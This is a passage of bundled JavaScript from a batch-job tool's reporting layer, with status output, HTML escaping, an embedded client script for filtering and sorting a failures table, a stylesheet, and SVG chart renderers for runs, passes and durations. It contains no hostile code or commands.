        io.stderr.write(`warning: ${w}\n`);
    if (asJson) {
        io.stdout.write(JSON.stringify(status, null, 2) + "\n");
        return 0;
    }
    if (state.runs.length === 0 && state.doneCount === 0) {
        io.stdout.write(`${stateDir}: no state yet (nothing has run here)\n`);
        return 0;
    }
    const kinds = Object.entries(byKind)
        .map(([k, n]) => `${n} ${k}`)
        .join(", ");
    io.stdout.write([
        `state:     ${stateDir} (${state.runs.length} run(s), state #${state.origin.seq})`,
        `pass:      ${describePassState(state, state.repeatMs, Date.now())}`,
        `done:      ${state.doneCount}${status.total !== undefined ? ` of ${status.total}` : ""}${state.pass > 1 ? ` in pass ${state.pass}` : ""}`,
        `failed:    ${state.failures.size}${kinds ? ` (${kinds})` : ""}`,
        status.remaining !== undefined ? `left:      ${status.remaining} (as of the last run)` : undefined,
        state.passes.length > 0 ? `passes:    ${state.passes.slice(-5).map(describePass).join("\n           ")}` : undefined,
        lastRun
            ? `last run:  ${lastRun.mode} ${lastRun.startedAt} — ${lastRun.succeeded} succeeded, ${lastRun.failed} failed, ${lastRun.stopReason ?? (running ? `running now (pid ${running.pid ?? "?"})` : "did not stop cleanly")}`
            : undefined,
    ]
        .filter(Boolean)
        .join("\n") + "\n");
    return 0;
}
/** One finished pass for the status text. */
function describePass(p) {
    const tookMs = p.startedAt && p.completedAt ? Date.parse(p.completedAt) - Date.parse(p.startedAt) : undefined;
    return (`pass ${p.pass}: ${p.succeeded} succeeded, ${p.failed} failed, ${p.runs} run(s), started ${p.startedAt ?? "?"}, ` +
        (p.completedAt ? `complete after ${formatDurationMs(tookMs)}` : "not complete when the next pass started"));
}

;// CONCATENATED MODULE: ./src/report/summary-input.ts

/**
 * The summary's figures, from state and (when a run just happened) its result. Without a
 * result — `status`, `report` — the totals are those the last normal run recorded.
 */
function summaryInputFromState(state, result, extra = {}) {
    const lastRun = state.runs[state.runs.length - 1];
    const lastNormal = state.lastNormalRun();
    const failures = buildFailuresFile(state).failures;
    const total = result?.mode === "run" ? result.total : (lastNormal?.total ?? state.doneCount + state.failures.size);
    const remaining = result?.mode === "run" ? result.remaining : (lastNormal?.remaining ?? 0);
    return {
        thisRun: result
            ? {
                processed: result.processed,
                succeeded: result.succeeded,
                failed: result.failed,
                durationMs: result.durationMs,
                stopReason: result.stopReason,
                ...(result.changed ? { changed: result.changed } : {}),
            }
            : {
                processed: (lastRun?.succeeded ?? 0) + (lastRun?.failed ?? 0),
                succeeded: lastRun?.succeeded ?? 0,
                failed: lastRun?.failed ?? 0,
                durationMs: lastRun?.endedAt && lastRun.startedAt ? Date.parse(lastRun.endedAt) - Date.parse(lastRun.startedAt) : 0,
                stopReason: lastRun?.stopReason ?? "complete",
            },
        totals: { total, done: result?.mode === "run" ? result.doneTotal : Math.min(state.doneCount, total), failed: state.failures.size, remaining },
        runs: state.runs,
        failures,
        ...passesOf(state, result),
        ...extra,
    };
}
/**
 * The passes, when the batch recurs (repeat set, or past pass 1): the history with the
 * current pass last, and where it stands, as of the run that just ended (or the last run).
 */
function passesOf(state, result) {
    if (state.pass === 1 && state.repeatMs === undefined && (result === undefined || result.nextPassAfter === undefined))
        return {};
    const lastRun = state.runs[state.runs.length - 1];
    const asOfMs = Date.parse(lastRun?.endedAt ?? lastRun?.startedAt ?? state.passStartedAt ?? "");
    const passNote = result?.passNote ?? (Number.isFinite(asOfMs) ? describePassState(state, state.repeatMs, asOfMs) : undefined);
    return { passes: passHistory(state), ...(passNote ? { passNote } : {}) };
}

;// CONCATENATED MODULE: ./src/report/html-escape.ts
/** Escaping for the HTML report: text into HTML, data into a script element. */
/** Text as HTML element content or a quoted attribute value. */
function escapeHtml(text) {
    return String(text).replace(/[&<>"']/g, (c) => (c === "&" ? "&amp;" : c === "<" ? "&lt;" : c === ">" ? "&gt;" : c === '"' ? "&quot;" : "&#39;"));
}
/**
 * JSON that is safe inside a `<script type="application/json">` element: `<` is written as
 * `\u003c`, so neither `</script` nor `<!--` can appear, and U+2028/U+2029 are escaped too.
 * `JSON.parse` of the element's text gives the value back unchanged.
 */
function jsonForScript(value) {
    return JSON.stringify(value)
        .replace(/</g, "\\u003c")
        .replace(/\u2028/g, "\\u2028")
        .replace(/\u2029/g, "\\u2029");
}

;// CONCATENATED MODULE: ./src/report/html-report-script.ts
// auto-generated from html-report-client.js by scripts/embed-sources.mjs, do not edit.
/**
 * The HTML report's client: filter (debounced), sort, page. Only `textContent` is ever set
 * from data. Inlined into the page's <script> element and allowed by its hash in the
 * page's Content-Security-Policy. Plain ES2017, no modules: it runs as a classic script.
 */
const HTML_REPORT_SCRIPT = [
    "(function () {",
    "  \"use strict\";",
    "  var t0 = performance.now();",
    "  var data = JSON.parse(document.getElementById(\"report-data\").textContent);",
    "  var rows = data.rows,",
    "    kinds = data.kinds,",
    "    errors = data.errors,",
    "    causes = data.causes;",
    "  var PAGE = data.pageSize || 500;",
    "  var N = rows.length;",
    "  var tbody = document.querySelector(\"#failures tbody\");",
    "  var search = document.getElementById(\"search\");",
    "  var groupSel = document.getElementById(\"group-filter\");",
    "  var shown = document.getElementById(\"shown-count\");",
    "  var moreBtn = document.getElementById(\"show-more\");",
    "  var heads = document.querySelectorAll(\"#failures th[data-sort]\");",
    "  var state = { q: \"\", group: -1, key: \"\", dir: 1, limit: PAGE };",
    "  var hay = null,",
    "    sorted = {},",
    "    matching = null;",
    "  var COL = { id: 0, kind: 1, attempts: 2, lastFailedAt: 6 };",
    "  var collator = typeof Intl !== \"undefined\" ? new Intl.Collator(undefined, { numeric: true, sensitivity: \"base\" }) : null;",
    "",
    "  function fmt(n) {",
    "    return String(n).replace(/\\B(?=(\\d{3})+(?!\\d))/g, \",\");",
    "  }",
    "  function when(iso) {",
    "    var m = /^(\\d{4}-\\d{2}-\\d{2})T(\\d{2}:\\d{2}:\\d{2})(?:\\.\\d+)?(Z|[+-]\\d{2}:?\\d{2})?$/.exec(iso || \"\");",
    "    return m ? m[1] + \" \" + m[2] + (m[3] === \"Z\" ? \" UTC\" : m[3] || \"\") : iso || \"\\u2013\";",
    "  }",
    "  function baseOrder() {",
    "    var a = new Array(N);",
    "    for (var i = 0; i < N; i++) a[i] = i;",
    "    return a;",
    "  }",
    "  function orderFor(key) {",
    "    if (!key) return sorted[\"\"] || (sorted[\"\"] = baseOrder());",
    "    if (sorted[key]) return sorted[key];",
    "    var c = COL[key],",
    "      a = baseOrder(),",
    "      cmp;",
    "    if (key === \"attempts\")",
    "      cmp = function (x, y) {",
    "        return rows[x][c] - rows[y][c] || x - y;",
    "      };",
    "    else if (key === \"kind\")",
    "      cmp = function (x, y) {",
    "        var p = kinds[rows[x][c]],",
    "          q = kinds[rows[y][c]];",
    "        return p < q ? -1 : p > q ? 1 : x - y;",
    "      };",
    "    else if (key === \"id\" && collator)",
    "      cmp = function (x, y) {",
    "        return collator.compare(rows[x][c], rows[y][c]) || x - y;",
    "      };",
    "    else",
    "      cmp = function (x, y) {",
    "        var p = rows[x][c],",
    "          q = rows[y][c];",
    "        return p < q ? -1 : p > q ? 1 : x - y;",
    "      };",
    "    a.sort(cmp);",
    "    return (sorted[key] = a);",
    "  }",
    "  function haystack() {",
    "    if (hay) return hay;",
    "    hay = new Array(N);",
    "    for (var i = 0; i < N; i++) {",
    "      var r = rows[i];",
    "      hay[i] = (r[0] + \"\\n\" + errors[r[4]] + \"\\n\" + kinds[r[1]]).toLowerCase();",
    "    }",
    "    return hay;",
    "  }",
    "  function compute() {",
    "    var order = orderFor(state.key);",
    "    if (state.dir < 0) order = order.slice().reverse();",
    "    var q = state.q,",
    "      g = state.group;",
    "    if (!q && g < 0) {",
    "      matching = order;",
    "      return;",
    "    }",
    "    var h = q ? haystack() : null,",
    "      out = [];",
    "    var terms = q ? q.split(/\\s+/).filter(Boolean) : [];",
    "    for (var k = 0; k < order.length; k++) {",
    "      var i = order[k];",
    "      if (g >= 0 && rows[i][7] !== g) continue;",
    "      var ok = true;",
    "      for (var t = 0; t < terms.length; t++) {",
    "        if (h[i].indexOf(terms[t]) < 0) {",
    "          ok = false;",
    "          break;",
    "        }",
    "      }",
    "      if (ok) out.push(i);",
    "    }",
    "    matching = out;",
    "  }",
    "  function cell(tr, cls, text) {",
    "    var td = document.createElement(\"td\");",
    "    if (cls) td.className = cls;",
    "    if (text !== undefined) td.textContent = text;",
    "    tr.appendChild(td);",
    "    return td;",
    "  }",
    "  function render() {",
    "    var frag = document.createDocumentFragment();",
    "    var n = Math.min(state.limit, matching.length);",
    "    for (var k = 0; k < n; k++) {",
    "      var r = rows[matching[k]];",
    "      var tr = document.createElement(\"tr\");",
    "      var idTd = cell(tr, \"id\");",
    "      var code = document.createElement(\"code\");",
    "      code.textContent = r[0];",
    "      idTd.appendChild(code);",
    "      var kindTd = cell(tr, \"\");",
    "      var span = document.createElement(\"span\");",
    "      var kind = kinds[r[1]];",
    "      span.className = \"kind kind-\" + (/^[a-z-]+$/.test(kind) ? kind : \"other\");",
    "      span.textContent = kind;",
    "      kindTd.appendChild(span);",
    "      var att = cell(tr, \"num\", fmt(r[2]));",
    "      att.title = r[3] ? r[2] + \" attempts in \" + r[3] + (r[3] === 1 ? \" run\" : \" runs\") : r[2] + \" attempts\";",
    "      var errTd = cell(tr, \"err\");",
    "      var div = document.createElement(\"div\");",
    "      div.textContent = errors[r[4]];",
    "      errTd.appendChild(div);",
    "      errTd.title = \"Click to expand\";",
    "      var last = cell(tr, \"when\", when(r[6]));",
    "      last.title = \"first failed \" + when(r[5]);",
    "      frag.appendChild(tr);",
    "    }",
    "    tbody.textContent = \"\";",
    "    tbody.appendChild(frag);",
    "    shown.textContent =",
    "      matching.length === N",
    "        ? \"Showing \" + fmt(n) + \" of \" + fmt(N)",
    "        : \"Showing \" + fmt(n) + \" of \" + fmt(matching.length) + \" matching (\" + fmt(N) + \" in all)\";",
    "    shown.setAttribute(\"data-shown\", String(n));",
    "    shown.setAttribute(\"data-matching\", String(matching.length));",
    "    var rest = matching.length - n;",
    "    moreBtn.hidden = rest <= 0;",
    "    moreBtn.textContent = \"Show \" + fmt(Math.min(PAGE, rest)) + \" more (\" + fmt(rest) + \" left)\";",
    "  }",
    "  function update() {",
    "    state.limit = PAGE;",
    "    compute();",
    "    render();",
    "  }",
    "  var timer = 0;",
    "  search.addEventListener(\"input\", function () {",
    "    clearTimeout(timer);",
    "    timer = setTimeout(function () {",
    "      var q = search.value.trim().toLowerCase();",
    "      if (q !== state.q) {",
    "        state.q = q;",
    "        update();",
    "      }",
    "    }, 150);",
    "  });",
    "  search.addEventListener(\"keydown\", function (e) {",
    "    if (e.key === \"Enter\") {",
    "      clearTimeout(timer);",
    "      state.q = search.value.trim().toLowerCase();",
    "      update();",
    "    }",
    "    if (e.key === \"Escape\") {",
    "      search.value = \"\";",
    "      clearTimeout(timer);",
    "      state.q = \"\";",
    "      update();",
    "    }",
    "  });",
    "  groupSel.addEventListener(\"change\", function () {",
    "    state.group = groupSel.value === \"\" ? -1 : Number(groupSel.value);",
    "    update();",
    "  });",
    "  document.addEventListener(\"click\", function (e) {",
    "    var t = e.target;",
    "    var btn = t.closest ? t.closest(\"[data-group-filter]\") : null;",
    "    if (btn) {",
    "      var g = btn.getAttribute(\"data-group-filter\");",
    "      if (!groupSel.querySelector('option[value=\"' + g + '\"]')) {",
    "        var o = document.createElement(\"option\");",
    "        o.value = g;",
    "        o.textContent = causes[Number(g)];",
    "        groupSel.appendChild(o);",
    "      }",
    "      groupSel.value = g;",
    "      state.group = Number(g);",
    "      update();",
    "      document.getElementById(\"failed-items\").scrollIntoView({ behavior: \"smooth\", block: \"start\" });",
    "      return;",
    "    }",
    "    var err = t.closest ? t.closest(\"#failures td.err\") : null;",
    "    if (err && !(window.getSelection && String(window.getSelection()).length)) err.classList.toggle(\"open\");",
    "  });",
    "  for (var i = 0; i < heads.length; i++) {",
    "    heads[i].querySelector(\"button\").addEventListener(",
    "      \"click\",",
    "      (function (th) {",
    "        return function () {",
    "          var key = th.getAttribute(\"data-sort\");",
    "          if (state.key === key) state.dir = -state.dir;",
    "          else {",
    "            state.key = key;",
    "            state.dir = th.getAttribute(\"data-first\") === \"desc\" ? -1 : 1;",
    "          }",
    "          for (var j = 0; j < heads.length; j++) heads[j].setAttribute(\"aria-sort\", \"none\");",
    "          th.setAttribute(\"aria-sort\", state.dir > 0 ? \"ascending\" : \"descending\");",
    "          update();",
    "        };",
    "      })(heads[i]),",
    "    );",
    "  }",
    "  moreBtn.addEventListener(\"click\", function () {",
    "    state.limit += PAGE;",
    "    render();",
    "  });",
    "  document.addEventListener(\"keydown\", function (e) {",
    "    if (e.key === \"/\" && document.activeElement !== search && !(e.target && /^(INPUT|SELECT|TEXTAREA)$/.test(e.target.tagName))) {",
    "      e.preventDefault();",
    "      search.focus();",
    "    }",
    "  });",
    "  compute();",
    "  render();",
    "  var root = document.documentElement;",
    "  root.setAttribute(\"data-render-ms\", String(Math.round(performance.now() - t0)));",
    "  root.setAttribute(\"data-ready-ms\", String(Math.round(performance.now())));",
    "  root.setAttribute(\"data-ready\", \"true\");",
    "})();",
    "",
].join("\n");

;// CONCATENATED MODULE: ./src/report/html-report-style.ts
// auto-generated from html-report.css by scripts/embed-sources.mjs, do not edit.
/**
 * The HTML report's stylesheet, inlined into its <style> element (the page loads nothing).
 */
const HTML_REPORT_STYLE = [
    "",
    ":root{color-scheme:light dark;--bg:#f6f7f9;--panel:#fff;--text:#1f2328;--muted:#59636e;--border:#d8dee4;",
    "--accent:#2f6feb;--ok:#1f883d;--ok-soft:#dafbe1;--bad:#cf222e;--bad-soft:#ffebe9;--warn:#9a6700;--warn-soft:#fff8c5;",
    "--chip:#eef1f4;--row-alt:#fafbfc;--shadow:0 1px 2px rgba(31,35,40,.06),0 1px 8px rgba(31,35,40,.04)}",
    "@media (prefers-color-scheme:dark){:root{--bg:#0d1117;--panel:#161b22;--text:#e6edf3;--muted:#9198a1;--border:#30363d;",
    "--accent:#4493f8;--ok:#3fb950;--ok-soft:#12261e;--bad:#f85149;--bad-soft:#2d1517;--warn:#d29922;--warn-soft:#2b2111;",
    "--chip:#21262d;--row-alt:#11161d;--shadow:none}}",
    "*{box-sizing:border-box}",
    "[hidden]{display:none!important}",
    ".table-wrap{overflow-x:auto}",
    "body{margin:0;background:var(--bg);color:var(--text);font:14px/1.5 -apple-system,BlinkMacSystemFont,\"Segoe UI\",Roboto,\"Helvetica Neue\",Arial,\"Noto Sans\",sans-serif}",
    "main{max-width:1240px;margin:0 auto;padding:28px 24px 64px}",
    "h1{font-size:24px;margin:0 0 4px;font-weight:650}",
    "h2{font-size:17px;margin:0 0 12px;font-weight:650}",
    "code{font:12.5px/1.45 ui-monospace,SFMono-Regular,\"SF Mono\",Menlo,Consolas,\"Liberation Mono\",monospace}",
    ".meta{color:var(--muted);margin:0}",
    ".status{display:inline-block;margin:12px 0 0;padding:4px 10px;border-radius:999px;background:var(--chip);font-weight:600}",
    ".status-complete{background:var(--ok-soft);color:var(--ok)}",
    ".status-failure-rate,.status-handler-error,.status-signal{background:var(--bad-soft);color:var(--bad)}",
    ".status-budget{background:var(--warn-soft);color:var(--warn)}",
    ".panel{background:var(--panel);border:1px solid var(--border);border-radius:10px;padding:18px 20px;margin-top:20px;box-shadow:var(--shadow)}",
    ".warning{margin-top:20px;border:2px solid var(--bad);background:var(--bad-soft);color:var(--text);border-radius:10px;padding:14px 18px}",
    ".warning strong{color:var(--bad);font-size:15px}",
    ".cards{display:grid;grid-template-columns:repeat(4,minmax(0,1fr));gap:14px;margin-top:20px}",
    ".card{background:var(--panel);border:1px solid var(--border);border-radius:10px;padding:14px 18px;box-shadow:var(--shadow)}",
    ".card .label{color:var(--muted);font-size:12px;text-transform:uppercase;letter-spacing:.04em;font-weight:600}",
    ".card .value{font-size:28px;font-weight:650;font-variant-numeric:tabular-nums;line-height:1.25;margin-top:2px}",
    ".card .sub{color:var(--muted);font-size:12.5px}",
    ".card.done .value{color:var(--ok)}.card.failed .value{color:var(--bad)}",
    ".progress{display:flex;height:10px;border-radius:999px;overflow:hidden;background:var(--chip);margin-top:16px}",
    ".progress .p-done{background:var(--ok)}.progress .p-failed{background:var(--bad)}",
    ".this-run{display:flex;flex-wrap:wrap;gap:8px 28px;margin:0;padding:0;list-style:none}",
    ".this-run li{color:var(--muted)}.this-run b{color:var(--text);font-variant-numeric:tabular-nums}",
    ".legend{display:flex;gap:18px;color:var(--muted);font-size:12.5px;margin:4px 0 6px}",
    ".legend i{display:inline-block;width:10px;height:10px;border-radius:2px;margin-right:6px;vertical-align:-1px}",
    ".legend .l-line{height:3px;border-radius:2px;vertical-align:3px;width:14px}",
    "svg{width:100%;height:auto;display:block}",
    "svg .grid{stroke:var(--border);stroke-width:1;stroke-dasharray:2 3}",
    "svg .baseline{stroke:var(--muted);stroke-width:1}",
    "svg .axis,svg .axis-title{fill:var(--muted);font-size:11px;font-family:inherit}",
    "svg .axis-title{font-size:10.5px;font-style:italic}",
    "svg .axis-cum{fill:var(--accent)}",
    "svg .bar-ok{fill:var(--ok);opacity:.8}",
    "svg .bar-failed{fill:var(--bad);opacity:.85}",
    "svg .run:hover rect{opacity:1}",
    "svg .cum-line{fill:none;stroke:var(--accent);stroke-width:2.25;stroke-linejoin:round}",
    "svg .cum-point{fill:var(--panel);stroke:var(--accent);stroke-width:2}",
    "svg .target{stroke:var(--accent);stroke-dasharray:6 4;stroke-width:1;opacity:.6}",
    "svg .target-label{fill:var(--accent);font-size:11px}",
    "table{width:100%;border-collapse:collapse}",
    "th,td{text-align:left;padding:7px 10px;border-bottom:1px solid var(--border);vertical-align:top}",
    "th{font-size:12px;color:var(--muted);text-transform:uppercase;letter-spacing:.04em;font-weight:600;white-space:nowrap;background:var(--panel)}",
    "tbody tr:nth-child(even){background:var(--row-alt)}",
    "td.num,th.num{text-align:right;font-variant-numeric:tabular-nums}",
    "td.when{white-space:nowrap;color:var(--muted);font-variant-numeric:tabular-nums}",
    "#groups td.cause{min-width:240px;width:40%}",
    "td.cause code{overflow-wrap:anywhere}",
    "#groups td.when{white-space:normal;min-width:96px}",
    "#groups td.examples{min-width:120px}",
    "#groups td.num{min-width:90px}",
    "td.examples code{display:inline-block;background:var(--chip);padding:0 6px;border-radius:4px;margin:1px 2px 1px 0;max-width:22ch;overflow:hidden;text-overflow:ellipsis;white-space:nowrap;vertical-align:bottom}",
    ".count{font-weight:600}",
    ".share{display:block;height:4px;background:var(--chip);border-radius:2px;margin-top:5px;min-width:60px}",
    ".share span{display:block;height:100%;background:var(--bad);border-radius:2px}",
    ".kind{display:inline-block;font-size:12px;padding:1px 8px;border-radius:999px;background:var(--chip);white-space:nowrap}",
    ".kind-permanent{background:var(--bad-soft);color:var(--bad)}",
    ".kind-transient{background:var(--warn-soft);color:var(--warn)}",
    ".kind-timeout{background:#ddf4ff;color:#0969da}",
    ".kind-quarantined{background:#f3e8ff;color:#8250df}",
    "@media (prefers-color-scheme:dark){.kind-timeout{background:#0c2d6b;color:#79c0ff}.kind-quarantined{background:#2a1a4a;color:#d2a8ff}}",
    "button{font:inherit;color:inherit}",
    ".linkish{background:none;border:0;padding:0;color:var(--accent);cursor:pointer;white-space:nowrap}",
    ".linkish:hover{text-decoration:underline}",
    ".toolbar{display:flex;flex-wrap:wrap;gap:10px;align-items:center;margin-bottom:12px}",
    "#search{flex:1 1 320px;min-width:200px;padding:8px 12px;border:1px solid var(--border);border-radius:8px;background:var(--bg);color:var(--text);font:inherit}",
    "#search:focus,#group-filter:focus{outline:2px solid var(--accent);outline-offset:-1px}",
    "#group-filter{max-width:380px;padding:8px 10px;border:1px solid var(--border);border-radius:8px;background:var(--bg);color:var(--text);font:inherit}",
    "#shown-count{color:var(--muted);font-variant-numeric:tabular-nums;margin-left:auto}",
    "#failures{table-layout:fixed;min-width:720px}",
    "#failures col.c-id{width:22%}#failures col.c-kind{width:110px}#failures col.c-att{width:96px}#failures col.c-last{width:190px}",
    "#failures th[data-sort]{padding:0}",
    "#failures th[data-sort] button{all:unset;box-sizing:border-box;display:block;width:100%;padding:7px 10px;cursor:pointer}",
    "#failures th.num[data-sort] button{text-align:right}",
    "#failures th[data-sort] button:hover{color:var(--text)}",
    "#failures th[data-sort] button:focus-visible{outline:2px solid var(--accent);outline-offset:-2px}",
    "#failures th[aria-sort] .arrow{opacity:.35}",
    "#failures th[aria-sort=ascending] .arrow,#failures th[aria-sort=descending] .arrow{opacity:1;color:var(--accent)}",
    "#failures td.id code{word-break:break-all}",
    "#failures td.err{cursor:pointer}",
    "#failures td{line-height:20px}",
    "#failures td.err div{font:12.5px/20px ui-monospace,SFMono-Regular,\"SF Mono\",Menlo,Consolas,\"Liberation Mono\",monospace;display:-webkit-box;-webkit-line-clamp:2;-webkit-box-orient:vertical;overflow:hidden;word-break:break-word;white-space:pre-wrap}",
    "#failures td.err.open div{display:block;-webkit-line-clamp:unset}",
    ".more{display:block;margin:14px auto 0;padding:8px 18px;border:1px solid var(--border);border-radius:8px;background:var(--panel);cursor:pointer}",
    ".more:hover{border-color:var(--accent);color:var(--accent)}",
    ".empty,.note{color:var(--muted)}",
    ".note{font-size:12.5px;margin:10px 0 0}",
    ".hint{margin-top:20px;padding:12px 16px;border-left:4px solid var(--accent);background:var(--panel);border-radius:6px}",
    ".sr-only{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0 0 0 0)}",
    "footer{color:var(--muted);font-size:12px;margin-top:28px;text-align:center}",
    "@media (max-width:760px){.cards{grid-template-columns:repeat(2,minmax(0,1fr))}#failures col.c-last{width:120px}}",
    "",
].join("\n");

;// CONCATENATED MODULE: ./src/report/passes-html.ts

/** Passes given a chart of their own (the most recent). */
const MAX_PASS_CHARTS = 4;
function passes_html_escape(text) {
    return text.replace(/[&<>"']/g, (c) => (c === "&" ? "&amp;" : c === "<" ? "&lt;" : c === ">" ? "&gt;" : c === '"' ? "&quot;" : "&#39;"));
}
/** The passes section: where the current pass stands, then one row per pass. */
function renderPassesSection(passes, runs, passNote) {
    const current = passes[passes.length - 1];
    if (!current)
        return "";
    const rows = passRows(passes, runs, current.pass)
        .map((r) => `<tr${r.pass === current.pass ? ' class="current"' : ""}><td class="num">${r.pass}</td><td>${passes_html_escape(r.started)}</td><td>${passes_html_escape(r.completed)}</td>` +
        `<td class="num">${passes_html_escape(r.succeeded)}</td><td class="num">${passes_html_escape(r.failed)}</td><td class="num">${passes_html_escape(r.duration)}</td><td class="num">${passes_html_escape(r.runs)}</td></tr>`)
        .join("");
    const note = passNote ? `<p id="pass-note">${passes_html_escape(passNote.charAt(0).toUpperCase() + passNote.slice(1))}.</p>` : "";
    return `<section class="panel" id="passes">
<h2>Passes</h2>
${note}<table class="passes"><thead><tr><th>Pass</th><th>Started (UTC)</th><th>Completed (UTC)</th><th>Succeeded</th><th>Failed</th><th>Duration</th><th>Runs</th></tr></thead>
<tbody>${rows}</tbody></table>
</section>`;
}
/** The progress chart once per pass, newest first; the current pass's keeps the report's chart id. */
function renderPassCharts(passes, runs, chart) {
    const current = passes[passes.length - 1].pass;
    const shown = passes.slice(-MAX_PASS_CHARTS).reverse();
    const parts = shown.map((p) => {
        const id = p.pass === current ? "runs-chart-svg" : `runs-chart-svg-pass-${p.pass}`;
        const title = `Pass ${p.pass}${p.pass === current ? " (current)" : ""}`;
        return `<h3 class="pass-chart-title">${passes_html_escape(title)}</h3>\n${chart(runsOfPass(runs, p.pass), totalOfPass(runs, p), id)}`;
    });
    if (passes.length > shown.length)
        parts.push(`<p class="note">The charts of the last ${shown.length} of ${passes.length} passes.</p>`);
    return parts.join("\n");
}

;// CONCATENATED MODULE: ./src/report/html-durations.ts


/** HTML-escapes text for element content and attribute values. */
function html_durations_escape(text) {
    return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}
const BUCKET_LABELS = ["< 10 ms", "10–100 ms", "0.1–1 s", "1–10 s", "10 s–1 min", "1–10 min", "≥ 10 min"];
/**
 * The report's duration view, from the job log: how long items took (a histogram of every
 * outcome) and the slowest ones. Plain HTML with inline bar widths: no script needed.
 */
function renderDurationsSection(durations) {
    if (durations === undefined || durations.outcomes === 0)
        return "";
    const peak = Math.max(1, ...durations.histogram);
    const bars = durations.histogram
        .map((count, i) => {
        const width = ((100 * count) / peak).toFixed(1);
        return (`<tr><th scope="row">${BUCKET_LABELS[i] ?? ""}</th><td class="num">${formatCount(count)}</td>` +
            `<td class="bar-cell"><span class="d-bar" style="display:inline-block;height:0.9em;background:var(--accent);width:${width}%"></span></td></tr>`);
    })
        .join("\n");
    const slowest = durations.slowest
        .map((s) => `<tr><td>${html_durations_escape(s.id.slice(0, 200))}</td><td class="num">${html_durations_escape(formatDuration(s.durationMs))}</td><td>${s.ok ? "succeeded" : "failed"}</td>` +
        `<td class="num">${s.attempts}</td><td><time datetime="${html_durations_escape(s.startedAt)}">${html_durations_escape(s.startedAt)}</time></td></tr>`)
        .join("\n");
    const median = durations.medianMs === undefined ? "" : ` Half took at most about ${html_durations_escape(formatDuration(durations.medianMs))}.`;
    return `<section class="panel" id="durations">
<h2>Durations</h2>
<p class="note">${formatCount(durations.outcomes)} outcome(s) in the job log (every run's, failures too; retries and backoff included).${median}</p>
<table id="duration-histogram" data-bounds-ms="${DURATION_BUCKET_BOUNDS_MS.join(",")}"><thead><tr><th>Took</th><th class="num">Items</th><th></th></tr></thead><tbody>
${bars}
</tbody></table>
<h3>Slowest items</h3>
<table id="slowest-items"><thead><tr><th>Id</th><th class="num">Took</th><th>Outcome</th><th class="num">Attempts</th><th>Started</th></tr></thead><tbody>
${slowest}
</tbody></table>
</section>`;
}
/** The report's line on results: how many, and where to get them. */
function renderResultsPanel(note) {
    if (note === undefined)
        return "";
    const payloads = note.withResult === note.items ? "" : ` (${formatCount(note.withResult)} with a result from the handler)`;
    return `<section class="panel" id="results"><h2>Results</h2><p><b id="results-count">${formatCount(note.items)}</b> item(s) have a result record${payloads}. ${html_durations_escape(note.whereText)}</p></section>`;
}

;// CONCATENATED MODULE: ./src/report/html-runs-chart.ts
/**
 * The HTML report's chart of runs: items done per run as bars (failed stacked on top), the
 * cumulative total as a line on a right-hand axis, and the whole list as a target line.
 * Inline SVG, so the page loads nothing.
 */


/** Runs drawn in the chart (the most recent). */
const MAX_CHART_RUNS = 60;
/** Size of the drawing in SVG units, and the margins that hold the axes' labels. */
const WIDTH = 880;
const HEIGHT = 250;
const MARGIN = { left: 52, right: 60, top: 30, bottom: 30 };
/** Widest bar, and a bar's share of its slot. */
const MAX_BAR_WIDTH = 48;
const BAR_SHARE = 0.68;
/** About this many run labels under the bars. */
const RUN_LABELS = 12;
/** Up to this many runs, each point of the cumulative line gets a circle with a tooltip. */
const MAX_POINTS_MARKED = 80;
/** Compact numbers for chart axes: 950, 1.2k, 35k, 1.5M. */
function formatCompact(n) {
    const abs = Math.abs(n);
    const trim = (x) => x.toFixed(1).replace(/\.0$/, "");
    if (abs >= 1_000_000)
        return `${trim(n / 1_000_000)}M`;
    if (abs >= 10_000)
        return `${Math.round(n / 1_000)}k`;
    if (abs >= 1_000)
        return `${trim(n / 1_000)}k`;
    return String(Math.round(n));
}
/** A "nice" axis: step from 1/2/2.5/5 × 10^k, top = the first step multiple ≥ max. */
function niceAxis(max, ticks = 4) {
    if (!(max > 0))
        return { top: 1, step: 1 };
    const raw = max / ticks;
    const pow = Math.pow(10, Math.floor(Math.log10(raw)));
    const step = [1, 2, 2.5, 5, 10].map((m) => m * pow).find((s) => s >= raw) ?? 10 * pow;
    const niceStep = step < 1 ? 1 : step;
    return { top: Math.max(niceStep, Math.ceil(max / niceStep) * niceStep), step: niceStep };
}
/** One decimal: SVG coordinates. */
const f = (x) => x.toFixed(1);
function renderRunsChart(runs, total, svgId = "runs-chart-svg") {
    if (runs.length === 0)
        return `<p class="empty">No runs recorded yet.</p>`;
    const from = Math.max(0, runs.length - MAX_CHART_RUNS);
    const layout = layoutChart(runs, from, total);
    const parts = [
        `<svg id="${escapeHtml(svgId)}" viewBox="0 0 ${WIDTH} ${HEIGHT}" role="img" aria-label="Items done per run and cumulative total">`,
        ...renderAxes(layout),
        ...renderTarget(layout, total),
        ...renderBars(layout),
        `<line class="baseline" x1="${MARGIN.left}" x2="${WIDTH - MARGIN.right}" y1="${MARGIN.top + layout.plotH}" y2="${MARGIN.top + layout.plotH}"/>`,
        ...renderCumulativeLine(layout),
        `</svg>`,
    ];
    const note = from > 0 ? `<p class="note">The last ${formatCount(layout.shown.length)} of ${formatCount(runs.length)} runs; totals count every run.</p>` : "";
    return parts.join("") + note;
}
function layoutChart(runs, from, total) {
    const cumulative = [];
    let sum = 0;
    for (const run of runs) {
        sum += Math.max(0, Number(run.succeeded) || 0);
        cumulative.push(sum);
    }
    const shown = runs.slice(from);
    const shownCum = cumulative.slice(from);
    const plotW = WIDTH - MARGIN.left - MARGIN.right;
    const plotH = HEIGHT - MARGIN.top - MARGIN.bottom;
    const perRunMax = Math.max(1, ...shown.map((r) => (Number(r.succeeded) || 0) + (Number(r.failed) || 0)));
    const left = niceAxis(perRunMax);
    const right = niceAxis(Math.max(1, total, shownCum[shownCum.length - 1] ?? 0));
    const slot = plotW / shown.length;
    return {
        shown,
        shownCum,
        plotH,
        slot,
        left,
        right,
        barW: Math.max(1, Math.min(MAX_BAR_WIDTH, slot * BAR_SHARE)),
        yLeft: (v) => MARGIN.top + plotH - (plotH * v) / left.top,
        yRight: (v) => MARGIN.top + plotH - (plotH * v) / right.top,
    };
}
/** Grid and left axis (per run), right axis (cumulative), and their titles. */
function renderAxes({ left, right, yLeft, yRight }) {
    const parts = [];
    for (let v = 0; v <= left.top + 1e-9; v += left.step) {
        const y = f(yLeft(v));
